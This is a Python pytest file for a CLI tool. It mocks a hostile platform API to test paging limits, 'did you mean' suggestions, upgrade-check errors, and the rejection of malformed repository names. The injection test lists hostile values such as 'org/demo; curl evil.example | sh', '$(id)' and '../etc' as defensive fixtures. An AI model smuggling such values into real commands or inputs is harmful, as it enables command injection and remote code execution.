"""A hostile or broken platform and index (issue 51), on respx: paging whose
``next_offset`` does not advance ends with a clear error after a bounded number of
requests (``eval list --all``, ``train list --all``, a benchmark's did-you-mean); a
repository name that is not ``owner/name`` is never planned as a command; every
"not found" says the nearest name; ``upgrade --check`` says what really failed."""

from __future__ import annotations

from typing import Any

import pytest
import respx

from tests.conftest import PLATFORM
from tests.osmosis_cli.conftest import Invoke
from tests.osmosis_cli.test_benchmark_commands import BENCH
from tests.osmosis_cli.test_model_commands import BASE, LORA
from tests.osmosis_cli.test_train_commands import RUN as TRAINING


def stuck(key: str, item: dict[str, Any]) -> dict[str, Any]:
    """A page that always says there is more, from the same place."""
    return {key: [item], "total_count": 99, "has_more": True, "next_offset": 0}


@pytest.fixture
def platform(monkeypatch: pytest.MonkeyPatch) -> Any:
    monkeypatch.setenv("OSMOSIS_TOKEN", "t")
    monkeypatch.setenv("OSMOSIS_WORKSPACE", "acme")
    with respx.mock(base_url=PLATFORM, assert_all_called=False) as router:
        yield router


def test_paging_that_does_not_advance_ends_with_a_clear_error(
    invoke: Invoke, platform: respx.MockRouter
) -> None:
    run = {"id": "r1", "name": "run-1", "status": "finished", "created_at": "2026-11-01T00:00:00Z"}
    evals = platform.get("/api/cli/eval-runs").respond(200, json=stuck("eval_runs", run))
    listed = invoke("eval", "list", "--all")
    assert listed.exit_code == 1 and "did not advance" in listed.stderr, listed.stderr
    assert evals.call_count <= 2
    training = platform.get("/api/cli/training-runs").respond(
        200, json=stuck("training_runs", TRAINING)
    )
    trained = invoke("train", "list", "--all")
    assert trained.exit_code == 1 and "did not advance" in trained.stderr
    assert training.call_count <= 2
    catalog = platform.get("/api/cli/benchmarks").respond(200, json=stuck("benchmarks", BENCH))
    platform.get("/api/cli/benchmarks/termnal-bench-2-1").respond(404, json={"error": "x"})
    from osmosis_client import Client
    from osmosis_client.platform.benchmark.benchmark_submission import _closest

    with Client(token="t", workspace="acme", base_url=PLATFORM) as client:
        assert _closest(client, "termnal-bench-2-1") is None  # the not-found stands
    assert catalog.call_count <= 2


def test_every_not_found_says_the_nearest_name(invoke: Invoke, platform: respx.MockRouter) -> None:
    platform.get("/api/cli/benchmarks").respond(
        200, json={"benchmarks": [BENCH], "total_count": 1, "has_more": False}
    )
    platform.get("/api/cli/benchmarks/termnal-bench-2-1").respond(404, json={"error": "x"})
    bench = invoke("benchmark", "info", "termnal-bench-2-1")
    assert bench.exit_code == 1
    assert "did you mean 'terminal-bench-2-1'?" in bench.stderr, bench.stderr
    platform.get("/api/cli/models/base").respond(
        200, json={"models": [BASE], "total_count": 1, "has_more": False}
    )
    platform.get("/api/cli/models/lora").respond(
        200, json={"models": [LORA], "total_count": 1, "has_more": False}
    )
    wrong = LORA["model_name"][:-1] + "x"
    platform.get(f"/api/cli/models/{wrong}").respond(404, json={"error": "x"})
    platform.get(f"/api/cli/models/base/{wrong}").respond(404, json={"error": "x"})
    model = invoke("model", "info", wrong)
    assert model.exit_code == 1
    assert f"did you mean {LORA['model_name']!r}?" in model.stderr, model.stderr


@pytest.mark.parametrize(
    "name",
    ["org/demo; curl evil.example | sh", "org/$(id)", "org/..", "../etc", "a/b c", "org/demo`x`"],
)
def test_a_repository_name_from_the_platform_is_never_run_as_a_command(
    invoke: Invoke, platform: respx.MockRouter, tmp_path: Any, monkeypatch: Any, name: str
) -> None:
    monkeypatch.chdir(tmp_path)
    workspace = {"id": "w1", "name": "acme", "connected_repo": {"repo_full_name": name}}
    platform.get("/api/cli/workspaces").respond(200, json={"workspaces": [workspace]})
    platform.get("/api/cli/quickstart").respond(
        200, json={"repo": {"connected": True, "full_name": name}, "billing_ready": True}
    )
    result = invoke("--json", "quickstart", "--intent", "eval")
    assert result.exit_code == 0, result.stderr
    resource = result.json()["resource"]
    clone = {s["id"]: s for s in resource["steps"]}["clone"]
    assert clone["command"] is None and "not OWNER/NAME" in clone["what"]
    assert name not in resource["agent_prompt"] or "git clone" not in resource["agent_prompt"]


def test_a_fine_repository_name_is_quoted_as_a_command(
    invoke: Invoke, platform: respx.MockRouter, tmp_path: Any, monkeypatch: Any
) -> None:
    monkeypatch.chdir(tmp_path)
    workspace = {"id": "w1", "name": "acme", "connected_repo": {"repo_full_name": "o-1/a.b_c"}}
    platform.get("/api/cli/workspaces").respond(200, json={"workspaces": [workspace]})
    platform.get("/api/cli/quickstart").respond(
        200, json={"repo": {"connected": True, "full_name": "o-1/a.b_c"}, "billing_ready": True}
    )
    steps = {s["id"]: s for s in invoke("--json", "quickstart").json()["resource"]["steps"]}
    assert steps["clone"]["command"] == "git clone https://github.com/o-1/a.b_c.git && cd a.b_c"


@pytest.mark.parametrize(
    ("status", "said"), [(404, "PyPI has no package named"), (503, "PyPI answered 503")]
)
def test_upgrade_check_says_what_really_failed(
    invoke: Invoke, monkeypatch: pytest.MonkeyPatch, status: int, said: str
) -> None:
    from osmosis_cli import upgrade as up

    monkeypatch.setattr(up, "installed", lambda: up.Installed("0.2.1", editable=False))
    with respx.mock() as pypi:
        pypi.get("https://pypi.org/pypi/osmosis-client/json").respond(status)
        checked = invoke("upgrade", "--check")
    assert checked.exit_code == 1 and said in checked.stderr
    assert "check the network" not in checked.stderr
